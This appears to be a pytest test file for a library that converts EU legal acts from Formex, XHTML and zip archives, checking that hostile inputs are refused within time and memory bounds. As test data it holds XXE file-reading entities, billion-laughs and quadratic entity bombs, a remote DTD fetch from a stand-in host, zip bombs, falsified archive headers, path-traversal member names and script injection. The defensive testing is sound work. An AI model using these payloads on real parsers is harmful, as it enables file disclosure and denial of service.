"""Documents that nobody vouches for: refused with a typed error that names the file, the limit and the way out."""

from __future__ import annotations

import io
import os
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from regreact.errors import DocumentRefusedError, SourceFormatError
from regreact.rag.act import LegalAct
from regreact.rag.convert.archive import read_archive
from regreact.rag.convert.formex import read_formex
from regreact.rag.convert.limits import LIMITS, Limits, check_markup, check_pages, check_size, parse_html, parse_xml
from regreact.rag.convert.markdown import to_markdown
from regreact.rag.convert.xhtml import read_xhtml

NAME = "parcel.fmx.xml"
ACT = (
    "<ACT><TITLE><TI><P>Regulation (EU) 2099/1 on kites</P></TI></TITLE><ENACTING.TERMS>"
    "<ARTICLE><TI.ART>Article 1</TI.ART><ALINEA>Kites fly.</ALINEA></ARTICLE></ENACTING.TERMS></ACT>"
)
SECONDS, MEGABYTES = 5, 400


def formex(data: bytes) -> LegalAct:
    return read_formex(data, name=NAME, celex="32099R0001", version="", language="en")


def xhtml(data: bytes) -> LegalAct:
    return read_xhtml(data, name="page.xhtml", celex="32099R0001", version="", language="en")


def packed(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Zip archive of the members."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return target.getvalue()


def refused(read: Callable[[], object], error: type[SourceFormatError], name: str, problem: str) -> None:
    """Reading fails with this error, naming file and problem and what to do, within bounds of time and memory."""
    tracemalloc.start()
    begun = time.perf_counter()
    try:
        with pytest.raises(error, match=problem) as caught:
            read()
        assert type(caught.value) is error
        assert caught.value.path.startswith(name)
        assert caught.value.hint
        assert time.perf_counter() - begun < SECONDS
        assert tracemalloc.get_traced_memory()[1] < MEGABYTES * 2**20
    finally:
        tracemalloc.stop()


XXE = '<!DOCTYPE ACT [<!ENTITY secret SYSTEM "file://{path}">]>' + ACT.replace("Kites fly.", "&secret;")
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<!DOCTYPE ACT [<!ENTITY l0 "ha">{LAUGHS}]>' + ACT.replace("Kites fly.", "&l11;")
QUADRATIC = f'<!DOCTYPE ACT [<!ENTITY big "{"x" * 100_000}">]>' + ACT.replace("Kites fly.", "&big;" * 100_000)
PARAMETER = '<!DOCTYPE ACT [<!ENTITY % file SYSTEM "http://192.0.2.1/evil.dtd"> %file;]>' + ACT
LONG_DOCTYPE = f'<!DOCTYPE ACT SYSTEM "{"x" * 5000}" [<!ENTITY a "b">]>' + ACT
DEFAULTS = f'<!DOCTYPE ACT [<!ATTLIST ACT a CDATA "{"x" * 1000}">]>' + ACT


@pytest.mark.parametrize("read", [formex, xhtml], ids=["formex", "xhtml"])
@pytest.mark.parametrize(
    "text",
    [XXE, BOMB, QUADRATIC, PARAMETER, LONG_DOCTYPE],
    ids=["xxe", "laughs", "quadratic", "parameter entity", "long doctype"],
)
def test_declarations_of_entities_are_refused(read: Callable[[bytes], LegalAct], text: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the treasure lies here")
    data = text.replace("{path}", str(secret)).encode()
    refused(lambda: read(data), DocumentRefusedError, "pa", "entit")


def test_default_attributes_are_refused() -> None:
    refused(lambda: formex(DEFAULTS.encode()), DocumentRefusedError, NAME, "declares entities or types")


def test_an_entity_of_an_external_dtd_is_not_fetched_but_refused() -> None:
    text = '<!DOCTYPE ACT SYSTEM "http://192.0.2.1/evil.dtd">' + ACT.replace("Kites fly.", "&secret;")
    refused(lambda: formex(text.encode()), DocumentRefusedError, NAME, "refers to an entity within <ALINEA>")


def test_a_document_type_without_declarations_is_no_reason() -> None:
    assert "art_1" in formex(f'<!DOCTYPE ACT SYSTEM "formex.dtd">{ACT}'.encode()).by_address


@pytest.mark.parametrize("read", [formex, xhtml], ids=["formex", "xhtml"])
def test_a_page_of_50_megabytes_is_refused(read: Callable[[bytes], LegalAct]) -> None:
    data = ACT.replace("Kites fly.", "<P>Kites fly.</P>" * 3_000_000).encode()
    assert len(data) > 50_000_000
    refused(lambda: read(data), DocumentRefusedError, "pa", "limit")


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"<DIV>" * 200 + b"</DIV>" * 200, "nested more than 120 deep"),
        (b"<DIV>" * 200_000 + b"</DIV>" * 200_000, "nested too deep"),
        (b"<A>" + b"<B/>" * 1_600_000 + b"</A>", "1,600,002 tags; the limit is 1,500,000"),
        (b"<A " + b" ".join(b'a%d=">"' % n for n in range(50_000)) + b"/>", "100 attributes a tag"),
    ],
    ids=["deep", "very deep", "elements", "attributes"],
)
@pytest.mark.parametrize("parse", [parse_xml, parse_html])
def test_trees_are_bounded(parse: Callable[[str, bytes], object], data: bytes, problem: str) -> None:
    wanted = problem if parse is parse_xml else problem.replace("more than 120", "(more than 120|too)")
    refused(lambda: parse("tree", data), DocumentRefusedError, "tree", wanted)


@pytest.mark.parametrize(
    "attributes",
    [
        " ".join(f"a{n}" for n in range(101)),
        " ".join(f'a{n}="<b c>"' for n in range(101)),
        "".join(f"a{n}='x'" for n in range(101)),
        "/".join(f"a{n} = x" for n in range(101)),
    ],
    ids=["bare", "with tags in them", "without space", "unquoted"],
)
def test_attributes_are_counted_as_html_reads_them(attributes: str) -> None:
    with pytest.raises(DocumentRefusedError, match="crowded tag at byte 3"):
        check_markup("tag", f"<p><a {attributes}>".encode())


def test_a_hundred_attributes_are_allowed() -> None:
    check_markup("tag", f"<p><a {' '.join(f'a{n}=x' for n in range(100))}>".encode())


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (ACT.encode("utf-16"), "UTF-16"),
        (ACT.encode("utf-16-le"), "UTF-16|NUL byte"),
        (ACT.encode("utf-32"), "UTF-16 or UTF-32"),
        (ACT.replace("fly", "f\0ly").encode(), "NUL byte at"),
        (f'<?xml version="1.0" encoding="UTF-7"?>{ACT}'.encode(), "encoding 'UTF-7'"),
        (f'<?xml version="1.0" encoding="cp037"?>{ACT}'.encode(), "encoding 'cp037'"),
        (b"", "empty"),
        (ACT[:100].encode(), "not well-formed"),
        (b"%PDF-1.7 nothing", "not well-formed"),
        (b"<html><body><p>Kites</p></body></html>", "no act in Formex: <html>"),
        (ACT.replace("fly", "f&#0;ly").encode(), "not well-formed"),
    ],
)
def test_what_is_no_formex_in_utf_8_is_a_format_error(data: bytes, problem: str) -> None:
    refused(lambda: formex(data), SourceFormatError, NAME, problem)


def test_scripts_are_no_text_of_the_act() -> None:
    page = (
        "<html xmlns='http://www.w3.org/1999/xhtml'><head><style>p { alarm: red }</style>"
        "<script>alarm('head')</script></head><body onload='alarm(1)'><p class='doc-ti'>Regulation (EU) 2099/1</p>"
        "<p class='ti-art'>Article 1<script>alarm('title')</script></p>"
        "<p class='normal' onclick='alarm(2)'>Kites fly<script>alarm('body')</script> high.</p>"
        "<iframe src='javascript:alarm(3)'>alarm</iframe><p class='normal'>They &lt;script&gt; land.</p></body></html>"
    )
    act = xhtml(page.encode())
    assert "Kites fly high." in act.text
    assert "alarm" not in act.text
    assert "alarm" not in to_markdown(act)
    assert "<script" not in to_markdown(act)


def test_a_parsed_page_has_no_active_content_left() -> None:
    root = parse_html("page", b"<p onclick='x()'>a<script>x()</script>b<style>x</style> c<object>x</object></p>")
    paragraph = root.find(".//p")
    assert paragraph is not None
    assert "".join(map(str, paragraph.itertext())) == "ab c"
    assert not paragraph.attrib


# --- archives ---------------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused() -> None:
    data = packed(("act.xml", b" " * 50_000_000))
    assert len(data) < 100_000
    refused(lambda: formex(data), DocumentRefusedError, NAME, "expands .*-fold; the limit is 200-fold")


def test_many_members_that_are_large_together_are_refused() -> None:
    noise = os.urandom(50_000) * 180  # repeats at a distance that deflate cannot see
    data = packed(*((f"{n}.xml", noise[: 8 * 2**20]) for n in range(3)))
    small = Limits(expanded_bytes=20 * 2**20, document_bytes=30 * 2**20)
    refused(lambda: read_archive(NAME, data, limits=small), DocumentRefusedError, NAME, "20,971,520")


def test_an_archive_within_the_archive_is_refused() -> None:
    inner = packed(("act.xml", b" " * 10_000_000))
    for name in ("inner.zip", "inner.xml"):
        data = packed((name, inner), ("act.xml", ACT.encode()))
        refused(lambda data=data: formex(data), DocumentRefusedError, NAME, "is an archive")  # type: ignore[misc]


def lying(data: bytes, size: int) -> bytes:
    """The same archive with another unpacked size in its headers."""
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = changed.index(signature) + offset
        changed[place : place + 4] = struct.pack("<I", size)
    return bytes(changed)


def test_a_size_that_lies_does_not_help() -> None:
    bomb = lying(packed(("act.xml", b" " * 50_000_000)), 900)
    refused(lambda: formex(bomb), SourceFormatError, NAME, "damaged archive")
    boast = lying(packed(("act.xml", ACT.encode())), 3_000_000_000)
    refused(lambda: formex(boast), DocumentRefusedError, NAME, "limit")


@pytest.mark.parametrize("member", ["../../etc/act.xml", "/etc/act.xml", "..\\act.xml", "C:\\act.xml", "a/../../b.xml"])
def test_names_that_leave_the_archive_are_refused(member: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    data = packed((member, ACT.encode()))
    refused(lambda: formex(data), DocumentRefusedError, NAME, "name outside the archive")
    assert list(tmp_path.iterdir()) == []


def test_members_are_never_written_to_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert "art_1" in formex(packed(("folder/act.xml", ACT.encode()))).by_address
    assert list(tmp_path.iterdir()) == []


def test_thousands_of_members_are_refused_before_the_directory_is_read() -> None:
    data = packed(*((f"{n}.xml", b"") for n in range(5_000)))
    refused(lambda: formex(data), DocumentRefusedError, NAME, "5,000 files in the archive; the limit is 500")


@pytest.mark.parametrize("share", [0.3, 0.6, 0.95])
def test_a_truncated_archive_is_a_format_error(share: float) -> None:
    data = packed(*((f"{n}.xml", os.urandom(2_000)) for n in range(3)))
    refused(lambda: formex(data[: int(len(data) * share)]), SourceFormatError, NAME, "damaged archive")


def test_damaged_and_unusual_members() -> None:
    data = bytearray(packed(("act.xml", ACT.encode()), method=zipfile.ZIP_STORED))
    data[data.index(b"Kites")] = ord("M")
    refused(lambda: formex(bytes(data)), SourceFormatError, NAME, "damaged archive: Bad CRC")
    unusual = packed(("act.xml", ACT.encode()), method=zipfile.ZIP_LZMA)
    refused(lambda: formex(unusual), DocumentRefusedError, NAME, "unusual compression")
    refused(lambda: formex(packed(("a.tif", b"x"))), SourceFormatError, NAME, "no .xml file")
    hostile = packed(("act.xml", BOMB.encode()))
    refused(lambda: formex(hostile), DocumentRefusedError, f"{NAME}!act.xml", "entities")


def test_a_table_cannot_claim_more_cells_than_there_are() -> None:
    row = '<ROW><CELL COL="1" COLSPAN="999999" ROWSPAN="999999">x</CELL></ROW>'
    table = f"<TBL><CORPUS>{row * 5000}</CORPUS></TBL>"
    text = ACT.replace("Kites fly.", f"<P>Kites:</P>{table}")
    refused(lambda: formex(text.encode()), DocumentRefusedError, NAME, "cells")


def test_limits_name_what_was_found_and_what_is_allowed() -> None:
    with pytest.raises(DocumentRefusedError, match=r"big: 40,000,000 bytes; the limit is 33,554,432 bytes"):
        check_size("big", 40_000_000)
    with pytest.raises(DocumentRefusedError, match=r"10,000 pages; the limit is 3,000 pages"):
        check_pages("long.pdf", 10_000)
    check_size("fits", LIMITS.document_bytes)
    check_pages("fits", LIMITS.pages)
